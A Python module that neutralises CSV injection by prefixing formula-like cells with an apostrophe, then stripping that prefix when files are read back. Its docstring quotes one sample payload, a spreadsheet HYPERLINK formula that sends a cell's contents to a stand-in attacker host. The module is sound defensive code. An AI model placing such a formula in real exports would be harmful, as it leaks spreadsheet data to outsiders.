"""CSV cells that a spreadsheet opens as text, never as a formula (CSV injection).

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel and LibreOffice: ``=HYPERLINK("https://evil.example/?"&A1,"Click")``
in a customer's name, or in a printer's own model string, would act in the office's
spreadsheet. As OWASP advises (CSV Injection), such a cell is written with a leading
``'``, which spreadsheets take as "this is text" and do not show.

The stored value is never changed, and reading a file takes the ``'`` off again, so an
export imports back to the same values. Cells that already begin with ``'`` before such a
character get one more, so that holds for them too; plain numbers (``-12.50``) are numbers,
not formulas, and stay as they are.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from typing import Final, TextIO

_FORMULA: Final = re.compile(r"'*[=+\-@\t\r]")
_NUMBER: Final = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def to_cell(value: object) -> object:
    """``value`` as a CSV cell that opens as text (strings that would be a formula get a leading ``'``)."""
    if isinstance(value, str) and _FORMULA.match(value) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def from_cell(text: str) -> str:
    """A cell as read back: the ``'`` that :func:`to_cell` added is taken off."""
    return text[1:] if text.startswith("'") and _FORMULA.match(text[1:]) else text


def write_rows(stream: TextIO, header: Sequence[str], rows: Iterable[Sequence[object]]) -> None:
    """A header and rows as CSV, every cell through :func:`to_cell`."""
    writer = csv.writer(stream)
    writer.writerow(header)
    writer.writerows([to_cell(value) for value in row] for row in rows)
